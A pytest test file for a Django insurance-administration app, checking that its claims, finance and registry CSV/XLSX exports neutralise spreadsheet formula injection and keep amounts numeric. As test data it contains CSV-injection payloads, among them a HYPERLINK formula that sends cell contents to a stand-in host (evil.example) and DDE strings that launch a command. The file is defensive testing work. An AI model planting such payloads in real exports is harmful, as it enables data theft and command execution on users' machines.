"""Every CSV/XLSX the product writes neutralises formula-looking text (OWASP CSV injection):
the claims list (CSV and XLSX), the finance statements and reports (XLSX), the registry's
rejected rows (CSV). Numbers stay numbers; negative amounts stay numeric cells."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from claims.models import Claim
from insurance_admin.core import exports
from tests.factories import UserFactory

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
HOSTILES = [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_no_formula(content: bytes) -> list:
    cells = _cells(content)
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert formulas == []
    return cells


# --- the helper ---------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILES)
def test_text_starting_with_a_formula_character_gets_a_leading_apostrophe(value):
    assert exports.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["通辽市医院", "", "1990-01-01", "'=already", "a=b", None, 12, Decimal("-12.50"),
                                   -3, 1.5, dt.date(2025, 3, 1)])
def test_other_values_are_left_as_they_are(value):
    assert exports.neutralise(value) is value


def test_csv_writer_and_xlsx_append_neutralise_text_and_keep_negative_amounts_numeric():
    out = io.StringIO()
    exports.writer(out).writerows([["name", "amount"], [HOSTILE, Decimal("-12.50")]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["name", "amount"], ["'" + HOSTILE, "-12.50"]]
    wb = Workbook()
    exports.append(wb.active, [HOSTILE, Decimal("-12.50")])
    buffer = io.BytesIO()
    wb.save(buffer)
    name, amount = _assert_no_formula(buffer.getvalue())
    assert name.value == "'" + HOSTILE and (amount.data_type, amount.value) == ("n", -12.5)


# --- claims list export -------------------------------------------------------------------


@pytest.mark.django_db
def test_claims_export_neutralises_a_hostile_hospital_name_in_csv_and_xlsx(client, caseworker, horqin_person):
    from claims.workflow import claim_transition
    from tests.claims.test_claim_registration import _register

    claim = _register(caseworker, horqin_person)
    claim_transition(claim=claim, to=Claim.Status.CALCULATED, user=caseworker)  # trial 4,800.00
    Claim.objects.filter(pk=claim.pk).update(fixmedins_name=HOSTILE)
    client.force_login(caseworker)
    response = client.get(reverse("claim_list"), {"export": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0]["医院"] == "'" + HOSTILE and rows[0]["试算金额"] == "4800.00"
    xlsx = client.get(reverse("claim_list"), {"export": "xlsx"})
    cells = _assert_no_formula(xlsx.content)
    by_value = {c.value: c for c in cells}
    assert "'" + HOSTILE in by_value
    assert by_value[4800].data_type == "n"  # the amount is a number Excel can add up


# --- finance statements and reports -------------------------------------------------------


@pytest.mark.django_db
def test_finance_report_xlsx_neutralises_hospital_names_and_keeps_amounts_numeric(client):
    from finance import services
    from programs.models import Area, Contract
    from tests.finance.test_fund_position import HORQIN, KAILU, instant

    user = UserFactory(username="fin_x", role="finance", area_codes=["150500"])
    contract = Contract.objects.get(code="tongliao-2025")
    services.premium_schedule_generate(contract=contract, user=user, headcounts={HORQIN: {"resident": 1000}, KAILU: {"resident": 1000}})
    instant(contract, HORQIN, "1234.56")
    services.hospital_payable_record(contract=contract, area=Area.objects.get(code=HORQIN), fixmedins_code="H1",
                                     fixmedins_name=HOSTILE, period=dt.date(2025, 3, 1), amount=Decimal("1234.56"),
                                     due_date=None, reference="b-1", user=user)
    client.force_login(user)
    response = client.get(f"/finance/contracts/{contract.code}/report/",
                          {"kind": "monthly", "period": "2025-03", "area": HORQIN, "fmt": "xlsx"})
    assert response.status_code == 200
    cells = _assert_no_formula(response.content)
    values = [c.value for c in cells]
    assert "'" + HOSTILE in values
    assert any(c.value == 1234.56 and c.data_type == "n" for c in cells)


def test_finance_document_xlsx_keeps_negative_amounts_as_numbers_and_neutralises_every_text():
    from finance.documents import document_xlsx
    from finance.reports import Document, Section

    document = Document(title="报表", meta=[("合同", "@meta")], sections=[
        Section("-section", ["=header", "金额"], [[HOSTILE, Decimal("-100.00")]], notes=["+note"])],
        formulas=["=1+1"])
    cells = _assert_no_formula(document_xlsx(document))
    values = [c.value for c in cells]
    for text in ("@meta", "-section", "=header", HOSTILE, "+note", "=1+1"):
        assert "'" + text in values, text
    amount = next(c for c in cells if c.value == -100)
    assert amount.data_type == "n" and amount.number_format == "#,##0.00"


# --- registry rejected rows ---------------------------------------------------------------


@pytest.mark.django_db
def test_registry_rejected_rows_csv_neutralises_hostile_names(client, settings, tmp_path):
    from programs import services
    from tests.programs.registry_helpers import csv_bytes, person_row, upload

    settings.MEDIA_ROOT = tmp_path
    user = UserFactory(username="cw_x", role="caseworker", area_codes=["150502"])
    rows = [person_row(i, name=name, gend="9") for i, name in enumerate(["=cmd|' /C calc'!A0", "+SUM(1)", "-1+2", "@A1"], start=1)]
    batch = upload(user, csv_bytes(rows, encoding="utf-8"))
    batch = services.import_batch_validate(batch_id=batch.pk)
    stored = list(csv.reader(io.StringIO(batch.rejected_file.open("rb").read().decode("utf-8-sig"))))
    client.force_login(user)
    response = client.get(reverse("import_batch_rejected", args=[batch.pk]))
    served = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    for table in (stored, served):
        names = [row[table[0].index("psn_name")] for row in table[1:]]
        assert names == ["'=cmd|' /C calc'!A0", "'+SUM(1)", "'-1+2", "'@A1"]
        assert not any(cell.startswith(exports.FORMULA_PREFIXES) for row in table for cell in row)
